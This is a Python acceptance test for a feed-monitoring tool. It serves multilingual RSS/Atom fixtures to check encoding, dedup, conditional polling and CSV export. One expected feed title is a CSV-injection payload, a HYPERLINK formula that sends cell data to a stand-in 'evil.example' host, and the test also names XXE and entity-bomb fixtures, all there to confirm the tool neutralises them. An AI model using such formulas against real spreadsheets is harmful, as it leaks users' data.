"""Acceptance check of issue 2 (the pipeline on RSS/Atom), written by the
acceptance checker from the issue's "How it will be checked" section.

Real-world feeds in odd styles (tests/fixtures/acceptance/: Windows-1254
without a declaration, ISO-8859-9, UTF-8 with a BOM, RSS 0.91 with the
Netscape DOCTYPE, RDF, Atom with xhtml content, Google Alerts, Turkish and
two-digit-year dates, missing and future dates) are served from a loopback
server with ETag / Last-Modified and polled; every item must be stored once
with the right title, link and date; a second poll is conditional and
stores nothing; the CSV export reads back exactly through Python's csv
module with formula-like cells neutralised; hostile feeds (XXE, entity
bomb, HTML page, truncated XML, 20 MB body, a server that never answers)
fail only their own source.
"""
import csv
import io
import json
import os
import sqlite3
import time

from harktest import FIXTURES, Server, TempDir, hark, ok, done

ACC = os.path.join(FIXTURES, "acceptance")
NOW = "2026-11-22T12:00:00Z"


def body(name):
    with open(os.path.join(ACC, name), "rb") as f:
        return f.read()


def conditional(data, ctype, etag=None, lm=None):
    """200 with validators, 304 when the client sends them back."""
    def fn(req):
        if etag and req.header("If-None-Match") == etag:
            return 304, {"ETag": etag}, b""
        if lm and not etag and req.header("If-Modified-Since") == lm:
            return 304, {"Last-Modified": lm}, b""
        h = {"Content-Type": ctype}
        if etag:
            h["ETag"] = etag
        if lm:
            h["Last-Modified"] = lm
        return 200, h, data
    return fn


# source -> (fixture, content type, etag, last-modified)
GOOD = {
    "tr1254": ("tr_1254_undeclared.xml", "text/xml", '"tr-1"', None),
    "tr88599": ("tr_iso8859-9.xml", "application/rss+xml", None, "Mon, 02 Nov 2026 19:00:00 GMT"),
    "atombom": ("atom_bom_xhtml.xml", "application/atom+xml; charset=utf-8", 'W/"atom-7"',
                "Thu, 05 Nov 2026 12:00:00 GMT"),
    "rss091": ("rss091.xml", "text/xml; charset=ISO-8859-1", None, "Sun, 01 Nov 2026 00:00:00 GMT"),
    "rdf": ("rss1.rdf", "application/rdf+xml", '"rdf-2"', None),
    "galerts": ("google_alerts.xml", "application/atom+xml", '"ga-3"', None),
    "oddities": ("rss2_oddities.xml", "application/rss+xml", '"odd-1"', None),
}

# (source, id) -> (title, url, published_at)
EXPECT = {
    ("tr1254", "https://haber.example.com.tr/ekonomi/acme-magaza-4410"):
        ("İstanbul'da yeni Acme mağazası açıldı: ışıklı vitrinler göz kamaştırdı",
         "https://haber.example.com.tr/ekonomi/acme-magaza-4410", "2026-11-02T07:00:00Z"),
    ("tr1254", "https://haber.example.com.tr/ekonomi/acme-kargo-4411?utm_source=rss&utm_medium=feed"):
        ("Acme kargosu üç gündür gelmedi, müşteriler şikâyetçi",
         "https://haber.example.com.tr/ekonomi/acme-kargo-4411?utm_source=rss&utm_medium=feed",
         "2026-11-03T11:35:00Z"),
    ("tr1254", "hk-4412"):
        ("ÇARŞAMBA FIRSATI: Acme ürünlerinde yüzde 40 indirim",
         "https://haber.example.com.tr/ekonomi/acme-indirim-4412", "2026-11-04T09:15:00Z"),
    ("tr88599", "forum-901"):
        ("Acme iade işlemi: iki haftadır bekliyorum", "http://forum.example.net/konu/901", "2026-11-02T15:00:00Z"),
    ("tr88599", "forum-902"):
        ("Acme ayakkabı numarası küçük geliyor", "http://forum.example.net/konu/902", "2026-11-02T18:30:00Z"),
    ("tr88599", "forum-903"):
        ("Acme müşteri hizmetleri çok ilgili", "http://forum.example.net/konu/903", "2026-11-02T10:00:00Z"),
    ("atombom", "tag:blog.example.org,2026:post-17"):
        ("Acme support review & verdict", "https://blog.example.org/2026/11/acme-support-review",
         "2026-11-02T07:00:00Z"),
    ("atombom", "tag:blog.example.org,2026:post-18"):
        ("Acme boots: six months later", "https://blog.example.org/2026/11/acme-boots-six-months",
         "2026-11-03T13:15:30Z"),
    ("atombom", "tag:blog.example.org,2026:post-19"):
        ("Acme pre-announces the 2027 collection", "https://blog.example.org/2027/acme-collection", NOW),
    ("rss091", "http://shoetalk.example.com/t/5521"):
        ("Acme trail runners: worth it?", "http://shoetalk.example.com/t/5521", None),
    ("rss091", "http://shoetalk.example.com/t/5522"):
        ("Café owner loves Acme clogs", "http://shoetalk.example.com/t/5522", None),
    ("rdf", "https://reviews.example.jp/r/3001"):
        ("Acme umbrella broke in the first storm", "https://reviews.example.jp/r/3001", "2026-11-02T01:00:00Z"),
    ("rdf", "https://reviews.example.jp/r/3002"):
        ("Acme raincoat keeps me dry", "https://reviews.example.jp/r/3002", "2026-11-03T00:00:00Z"),
    ("galerts", "tag:google.com,2013:googlealerts/feed:9000000000000000001"):
        ("Acme recalls batch of kettles over lid defect",
         "https://www.newsdaily.example.com/business/2026/11/04/acme-kettle-recall?ref=rss", "2026-11-04T16:12:03Z"),
    ("galerts", "tag:google.com,2013:googlealerts/feed:9000000000000000002"):
        ("Why Acme shoes are everywhere this fall", "https://style.example.co.uk/acme-fall", "2026-11-04T09:40:00Z"),
    ("oddities", "community-1"):
        ('=HYPERLINK("http://evil.example/?x="&A1,"Acme refund form")', "https://community.example.com/p/1",
         "2026-11-03T07:00:00Z"),
    ("oddities", "community-2"):
        ("-5 stars for Acme delivery", "https://community.example.com/p/2", None),
    ("oddities", "community-3"):
        ("\uff1dSUM(1+1) Acme full-width", "https://community.example.com/p/3", NOW),
    ("oddities", "community-4"):
        ("Acme line one line two", "https://community.example.com/p/4", "2026-11-04T11:00:00Z"),
}

COLUMNS = "id,published_at,fetched_at,brand,source,adapter,author,rating,lang,sentiment,label,title,text,url".split(",")
DANGER = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def big_stream():
    chunk = b"<item><title>Acme</title></item>" * 32768  # 1 MiB
    yield b'<?xml version="1.0"?><rss version="2.0"><channel><title>big</title>'
    for _ in range(20):
        yield chunk


def norm_key(m):
    """The duplicated-guid item may come out as community-1#hash (see the
    dedicated check below); map it back so the field checks still run."""
    i = m["id"]
    if i.startswith("community-1#"):
        i = "community-1"
    return (m["source"], i)


with Server() as srv, TempDir() as tmp:
    for name, (fx, ctype, etag, lm) in GOOD.items():
        srv.route("/" + name, fn=conditional(body(fx), ctype, etag, lm))
    srv.route("/xxe", headers={"Content-Type": "application/rss+xml"}, body=body("hostile_xxe.xml"))
    srv.route("/bomb", headers={"Content-Type": "application/rss+xml"}, body=body("hostile_bomb.xml"))
    srv.route("/html", headers={"Content-Type": "text/html; charset=utf-8"}, body=body("hostile_html.html"))
    srv.route("/truncated", headers={"Content-Type": "application/rss+xml"}, body=body("hostile_truncated.xml"))
    srv.route("/huge", headers={"Content-Type": "application/rss+xml"}, stream=big_stream())
    srv.route("/hang", hang=True)

    sections = []
    for name in GOOD:
        sections.append(f"[source {name}]\nadapter = rss\nurl = {srv.url('/' + name)}\nevery = 1h\n"
                        + ("match = all\n" if name in ("rss091", "rdf") else ""))
    for name in ("xxe", "bomb", "html", "truncated", "huge", "hang"):
        sections.append(f"[source {name}]\nadapter = rss\nurl = {srv.url('/' + name)}\nevery = 1h\n")
    conf = tmp.file("hark.conf", f"""; acceptance: real-world feed styles
[hark]
database = acc.db
user_agent = acme-acceptance/1.0 (+mailto:qa@example.com)
timeout = 3

[brand acme]
keywords = acme, "acme shoes"

""" + "\n".join(sections))

    env = {"HARK_NOW": NOW}
    r = hark("-c", conf, "check", env=env)
    ok(r.rc == 0, "check accepts the acceptance config", r)
    r = hark("-c", conf, "init", env=env)
    ok(r.rc == 0, "init", r)

    t0 = time.monotonic()
    r = hark("-c", conf, "poll", env=env, timeout=60)
    took = time.monotonic() - t0
    ok(r.rc == 1, "poll exits 1 when some sources fail", r)
    ok(r.out == "", "poll prints nothing on stdout without -v", r.out)
    for name in ("bomb", "html", "truncated", "huge", "hang"):
        ok(f"source {name}:" in r.err, f"hostile source '{name}' fails and is named on stderr", r.err)
    for name in GOOD:
        ok(f"source {name}:" not in r.err, f"good source '{name}' does not fail beside the hostile ones", r.err)
    ok(took < 3 + 10, "a server that never answers fails at the timeout (poll took %.1fs, timeout 3s)" % took)
    errs = {l.split(":", 1)[0].replace("hark: source ", ""): l for l in r.err.splitlines()}
    ok("html" in r.err.lower() and "not a feed" in r.err, "HTML page: clear 'not a feed' message", r.err)
    ok("truncated" in errs.get("hark: source truncated", r.err), "truncated XML: says truncated", r.err)
    ok(srv.routes["/huge"].sent < 20 << 20, "20 MB body cut off while receiving (%d bytes sent)"
       % srv.routes["/huge"].sent)
    hang_line = [l for l in r.err.splitlines() if "source hang:" in l]
    ok(hang_line and ("timed out" in hang_line[0].lower() or "timeout" in hang_line[0].lower()),
       "hanging server: error names the timeout", hang_line)

    r = hark("-c", conf, "export", "--format", "jsonl", env=env)
    ok(r.rc == 0, "export jsonl", r)
    rows = r.jsonl()
    ok(not any("root:" in json.dumps(m) for m in rows), "XXE: /etc/passwd never reaches a mention", rows)
    good_rows = [m for m in rows if m["source"] in GOOD]
    keys = [norm_key(m) for m in good_rows]
    ok(len(keys) == len(set(keys)), "every item stored once (the duplicated guid once too)", sorted(keys))
    ok(set(keys) == set(EXPECT), "exactly the expected items stored",
       "missing: %s\nextra: %s" % (sorted(set(EXPECT) - set(keys)), sorted(set(keys) - set(EXPECT))))
    by_key = {norm_key(m): m for m in good_rows}
    for k, (title, url, date) in EXPECT.items():
        m = by_key.get(k)
        if not m:
            continue
        ok(m["title"] == title, f"{k[0]} {k[1]}: title", (m["title"], title))
        ok(m["url"] == url, f"{k[0]} {k[1]}: link", (m["url"], url))
        ok(m["published_at"] == date, f"{k[0]} {k[1]}: date {date}", (m["published_at"], date))
    t = by_key.get(("tr1254", "hk-4412"), {})
    ok(t.get("text") == "Ğ Ş İ Ö Ü Ç ğ ş ı ö ü ç", "undeclared Windows-1254: every Turkish letter right", t)
    t = by_key.get(("atombom", "tag:blog.example.org,2026:post-17"), {})
    ok(t.get("text") == "Acme support answered in 5 minutes. Great job!" and t.get("author") == "Jane Doe",
       "Atom xhtml content to plain text, author", t)
    t = by_key.get(("rss091", "http://shoetalk.example.com/t/5522"), {})
    ok(t.get("text") == "Naïve question: are Acme clogs dishwasher safe? © 2026",
       "RSS 0.91 with Netscape DOCTYPE, Latin-1", t)
    t = by_key.get(("oddities", "community-4"), {})
    ok(t.get("text") == 'Acme & friends multi-line text with "quotes", semicolons; and tabs here',
       "CDATA HTML, newlines and tabs folded", t)

    dup = [m["id"] for m in good_rows if m["id"].startswith("community-1")]
    ok(dup == ["community-1"], "A1 (fixed defect, regression check): a guid listed twice in one feed "
       "keeps its guid as id", dup)

    n1 = len(rows)
    env2 = {"HARK_NOW": "2026-11-22T13:30:00Z"}
    before = {n: len(srv.requests_to("/" + n)) for n in GOOD}
    args = []
    for n in GOOD:
        args += ["--source", n]
    r = hark("-c", conf, "poll", *args, env=env2)
    ok(r.rc == 0 and r.out == "" and r.err == "", "second poll of the good sources: silent success", r)
    for n, (fx, ctype, etag, lm) in GOOD.items():
        reqs = srv.requests_to("/" + n)
        q = reqs[-1] if len(reqs) > before[n] else None
        if etag:
            ok(q is not None and q.header("If-None-Match") == etag, f"{n}: second poll sends If-None-Match {etag}",
               q and q.headers)
        if lm:
            ok(q is not None and q.header("If-Modified-Since") == lm, f"{n}: second poll sends If-Modified-Since",
               q and q.headers)
    r = hark("-c", conf, "export", "--format", "jsonl", env=env2)
    ok(len(r.jsonl()) == n1, "second poll (304s) stores nothing", len(r.jsonl()))

    # the feed changes (new ETag): the same items again store nothing twice;
    # here the duplicated guid is gone from the feed
    changed = body("rss2_oddities.xml").replace(b"</channel>", b"", 1)
    parts = changed.split(b"<item>")
    changed = b"<item>".join(parts[:4]) + b"<item>" + parts[5] + b"</channel></rss>\n"
    srv.route("/oddities", fn=conditional(changed, "application/rss+xml", '"odd-2"'))
    r = hark("-c", conf, "poll", "--source", "oddities", env={"HARK_NOW": "2026-11-22T15:00:00Z"})
    ok(r.rc == 0, "poll of the changed feed", r)
    r = hark("-c", conf, "export", "--format", "jsonl", "--source", "oddities", env=env2)
    ids = sorted(m["id"] for m in r.jsonl())
    ok(len([i for i in ids if i.startswith("community-1")]) == 1,
       "A1 (fixed defect, regression check): a feed that stops listing a guid twice does not store that item again", ids)

    # CSV read back exactly
    r = hark("-c", conf, "export", "--format", "jsonl", env=env2)
    rows = r.jsonl()
    r = hark("-c", conf, "export", env=env2)
    raw = r.out
    ok(r.rc == 0 and raw.startswith(",".join(COLUMNS) + "\r\n"), "CSV header, CRLF", raw[:200])
    table = list(csv.reader(io.StringIO(raw, newline="")))
    ok(table[0] == COLUMNS, "csv module reads the header")
    body_rows = table[1:]
    ok(len(body_rows) == len(rows), "one CSV row per stored mention", (len(body_rows), len(rows)))
    js = {(m["source"], m["id"]): m for m in rows}
    mismatches = []
    guarded = 0
    for t in body_rows:
        if len(t) != len(COLUMNS):
            mismatches.append(("width", t))
            continue
        cell = dict(zip(COLUMNS, t))
        m = js.get((cell["source"], cell["id"].lstrip("'")))
        if m is None:
            mismatches.append(("no jsonl row", t))
            continue
        for c in COLUMNS:
            v = m.get(c)
            if c == "sentiment":
                if v is None:
                    good = cell[c] == ""
                else:
                    good = cell[c] != "" and abs(float(cell[c]) - v) < 1e-4
            elif c == "rating":
                good = cell[c] == ("" if v is None else str(v))
            else:
                s = "" if v is None else str(v)
                if s.startswith(DANGER):
                    guarded += 1
                    s = "'" + s
                good = cell[c] == s
            if not good:
                mismatches.append((c, cell[c], v))
    ok(not mismatches, "every CSV cell equals the JSON Lines value (formula-like ones prefixed with ')",
       "\n".join(map(repr, mismatches[:20])))
    ok(guarded >= 5, "formula-like cells were present and guarded (%d)" % guarded)
    bad = [t for t in body_rows
           if any(c.startswith(DANGER) for i, c in enumerate(t) if COLUMNS[i] != "sentiment")]
    ok(not bad, "no text cell starts with a formula character (sentiment is a plain number)", bad)
    ok(any(t[11].startswith("'\uff1d") for t in body_rows), "full-width = neutralised")
    ok(any(t[11].startswith("'-5") for t in body_rows), "- neutralised")
    ok(any(t[12].startswith("'@everyone") for t in body_rows), "@ neutralised")

    out = os.path.join(tmp.path, "ex.csv")
    r = hark("-c", conf, "export", "--excel", "-o", out, env=env2)
    data = open(out, "rb").read()
    ok(r.rc == 0 and data.startswith(b"\xef\xbb\xbf"), "--excel adds a BOM")
    t2 = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))
    si = COLUMNS.index("sentiment")
    ok(all("." not in t[si] for t in t2[1:]) and any("," in t[si] for t in t2[1:]),
       "--excel writes the sentiment with a decimal comma (README)", [t[si] for t in t2[1:5]])
    t2 = [t[:si] + [t[si].replace(",", ".")] + t[si + 1:] if i else t for i, t in enumerate(t2)]
    ok(t2 == table, "--excel reads back with ; to the same cells as the plain CSV (decimal comma aside)")

    db = sqlite3.connect(os.path.join(tmp.path, "acc.db"))
    n = db.execute("SELECT count(*) FROM mentions").fetchone()[0]
    ok(n == len(rows), "database rows = exported rows", (n, len(rows)))
    db.close()

# ---- the declared, HTTP and guessed charsets against each other
T = "Acme şikâyet: ürün İADE edilmedi, çok kötü"


def one_item(decl, enc, lang=""):
    d = '<?xml version="1.0" encoding="%s"?>' % decl if decl else '<?xml version="1.0"?>'
    return (d + '<rss version="2.0"><channel><title>x</title>%s<item><guid>1</guid><title>%s</title>'
            '<link>https://e.example/1</link></item></channel></rss>' % (lang, T)).encode(enc)


CASES = {
    "utf8-declared-http-latin1": (one_item("UTF-8", "utf-8"), "text/xml; charset=ISO-8859-1"),
    "utf8-undeclared-http-latin1": (one_item(None, "utf-8"), "application/rss+xml; charset=iso-8859-1"),
    "1254-undeclared-http-1254": (one_item(None, "cp1254"), "text/xml; charset=windows-1254"),
    "1254-labelled-latin1": (one_item("ISO-8859-1", "cp1254"), "application/xml"),
    "88599-declared-http-utf8": (one_item("ISO-8859-9", "iso-8859-9"), "application/xml; charset=utf-8"),
    "utf8-bom-http-1254": (b"\xef\xbb\xbf" + one_item(None, "utf-8"), "text/xml; charset=windows-1254"),
    "utf16-declared": (one_item("UTF-16", "utf-16"), "application/xml"),
    "1254-undeclared-lang-en": (one_item(None, "cp1254", "<language>en</language>"), "text/xml"),
}
with Server() as srv, TempDir() as tmp:
    secs = ""
    for k, (b, ct) in CASES.items():
        srv.route("/" + k, headers={"Content-Type": ct}, body=b)
        secs += "[source %s]\nadapter = rss\nmatch = all\nurl = %s\n" % (k, srv.url("/" + k))
    conf = tmp.file("h.conf", "[hark]\ndatabase = cs.db\n[brand acme]\nkeywords = acme\n" + secs)
    r = hark("-c", conf, "poll", env={"HARK_NOW": NOW})
    ok(r.rc == 0, "charset matrix: every source polled", r)
    got = {m["source"]: m["title"] for m in hark("-c", conf, "export", "--format", "jsonl").jsonl()}
    for k in CASES:
        ok(got.get(k) == T, "charset: " + k, got.get(k))

# ---- language: only English evidence makes `en`; the brand's languages filter
with TempDir() as tmp:
    texts = {"l-es": "Acme es muy malo, no me gusta nada", "l-de": "Acme ist schrecklich und viel zu teuer",
             "l-en": "Acme is terrible, never again", "l-tr": "Acme harika bir marka, çok memnunum"}
    x = '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>'
    for g, t in texts.items():
        x += "<item><guid>%s</guid><title>%s</title><link>https://e.example/%s</link></item>" % (g, t, g)
    feed = tmp.file("lang.xml", x + "</channel></rss>")
    conf = tmp.file("lang.conf", "[hark]\ndatabase = lang.db\n[brand acme]\nkeywords = acme\nlanguages = en, tr\n"
                    "[source s]\nadapter = rss\nurl = file://%s\n" % feed)
    r = hark("-c", conf, "poll", env={"HARK_NOW": NOW})
    got = {m["id"]: m["lang"] for m in hark("-c", conf, "export", "--format", "jsonl").jsonl()}
    ok(r.rc == 0 and got.get("l-en") == "en" and got.get("l-tr") == "tr", "English and Turkish items kept, labelled", got)
    ok(got.get("l-es") != "en" and got.get("l-de") != "en",
       "A21 (fixed defect, regression check): Spanish and German texts are not labelled en (dropped by languages = en, tr, or null)",
       got)

done()
